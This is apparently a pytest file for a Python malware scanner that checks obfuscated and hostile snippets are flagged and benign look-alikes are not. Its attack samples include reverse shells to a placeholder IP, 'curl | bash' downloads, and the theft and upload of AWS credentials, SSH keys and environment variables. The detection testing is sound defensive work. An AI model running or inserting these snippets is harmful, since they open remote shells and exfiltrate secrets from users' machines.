"""Python that attacks wherever it stands, or hides what it does."""

from __future__ import annotations

import pytest
from samples.judging import levels, verdict

from picklewatch.core.model import Level, Verdict

ADDRESS = "http://203.0.113.7/x"
ATTACKS = {
    "base64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "base64 in a function": "import base64\ndef f():\n    c = base64.b64decode('')\n    exec(compile(c, '', 'exec'))\n",
    "by way of a parameter": "import base64\ndef r(c):\n    exec(c)\nr(base64.b64decode('eA=='))\n",
    "by way of a result": "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('eA=='))\n",
    "hexadecimal": "exec(bytes.fromhex('70').decode())\n",
    "compressed": "import zlib\nd = zlib.decompress(b'x')\nexec(d)\n",
    "numbers": "exec(''.join(chr(x) for x in [112, 114]))\n",
    "numbers with a key": "k = 7\nexec(''.join(chr(c ^ k) for c in [1, 2]))\n",
    "rotated": "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
    "unmarshalled": "import marshal\nexec(marshal.loads(b'c'))\n",
    "a function of it": "import marshal, types\ntypes.FunctionType(marshal.loads(b'c'), globals())()\n",
    "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'd'))\n",
    "from the network": f"import urllib.request as u\nc = u.urlopen('{ADDRESS}').read()\nexec(c)\n",
    "a pickle in base64": "import pickle, base64\npickle.loads(base64.b64decode('gASVBA=='))\n",
    "a name backwards": "import os\ngetattr(os, 'metsys'[::-1])('true')\n",
    "a name in parts": "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
    "a name in three hundred parts": "import os\ngetattr(os, 'sys' + " + "'' + " * 300 + "'tem')('true')\n",
    "a name in a format": "import os\np = 'sys'\ngetattr(os, f'{p}tem')('true')\n",
    "a name of letters": "getattr(__import__('os'), ''.join(['s', 'y', 's', 't', 'e', 'm']))('true')\n",
    "a module in parts": "a = 'o'; b = 's'; c = a + b\n__import__(c).system('true')\n",
    "a module by numbers": "__import__(''.join(map(chr, [111, 115]))).system('true')\n",
    "a module with a letter too many": "__import__('oXs'.replace('X', '')).system('true')\n",
    "a table of a module": "import os\nvars(os)['sys' + 'tem']('true')\n",
    "a table of Python": "__builtins__.__dict__['ex' + 'ec']('1')\n",
    "all classes": "x = [c for c in ().__class__.__base__.__subclasses__()]\n",
    "a shell on a socket": (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 1))\n"
        "[os.dup2(s.fileno(), i) for i in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
    ),
    "a shell's own socket": "import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'\")\n",
    "the same as a list": "import subprocess as s\ns.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'])\n",
    "commands from a socket": (
        "import socket, subprocess\ns = socket.create_connection(('203.0.113.7', 1))\n"
        "while 1:\n    s.send(subprocess.getoutput(s.recv(99).decode()).encode())\n"
    ),
    "what is fetched to a shell": f"import os\ndef f():\n    os.system('curl -s {ADDRESS} | bash')\n",
    "PowerShell": "import subprocess\nsubprocess.run('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A', shell=True)\n",
    "keys": (
        "import requests, os\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    d = f.read()\n"
        f"requests.post('{ADDRESS}', data=d)\n"
    ),
    "a key in an address": (
        "import urllib.request as u, pathlib\nk = pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_text()\n"
        f"u.urlopen('{ADDRESS}?' + k)\n"
    ),
    "the environment": f"import os, requests\ndef f():\n    requests.post('{ADDRESS}', json=dict(os.environ))\n",
    "machine code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n",
    "an encoding": "# coding: utf-7\n# +AAo-import os\n",
}
HONEST = {
    "a picture": "import base64\nx = base64.b64decode('eA==')\nopen('x.png', 'wb').write(x)\n",
    "an attribute by a name": "def f(a, name):\n    return getattr(a, 'get_' + name)()\n",
    "a backend by a name": "import importlib\ndef f(n):\n    return importlib.import_module('models.' + n)\n",
    "a model's mode": "import torch\ndef f(m):\n    m.eval()\n    return torch.compile(m)\n",
    "a client": (
        "import os, requests\ndef f(x):\n    h = {'Authorization': os.environ['HF_TOKEN']}\n"
        "    return requests.post('https://huggingface.co/api', json=x, headers=h)\n"
    ),
    "a download": (
        "import requests, subprocess\ndef f(u):\n    n = requests.get(u).json()\n"
        "    subprocess.run(['tar', '-xf', n['file']])\n"
    ),
    "a free port": (
        "import socket, subprocess\ndef f():\n    s = socket.socket()\n    p = s.getsockname()[1]\n"
        "    subprocess.run(['serve', str(p)])\n"
    ),
    "a page of a service's": (
        "import requests, webbrowser\ndef f(u):\n    webbrowser.open(requests.post(u).json()['address'])\n"
    ),
    "its own classes": "class A:\n    @classmethod\n    def all(cls):\n        return cls.__subclasses__()\n",
    "a table of names": "def f():\n    globals()['x'] = 1\n    return globals()['__builtins__']\n",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_malicious_wherever_it_stands(name: str) -> None:
    """No honest module does it."""
    assert levels(ATTACKS[name].encode())["python-attack"] is Level.MALICIOUS
    assert verdict(ATTACKS[name].encode()) is Verdict.MALICIOUS


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_modules_do_is_no_attack(name: str) -> None:
    """The same calls with other arguments."""
    assert levels(HONEST[name].encode()) == {"python-code": Level.UNVERIFIED}
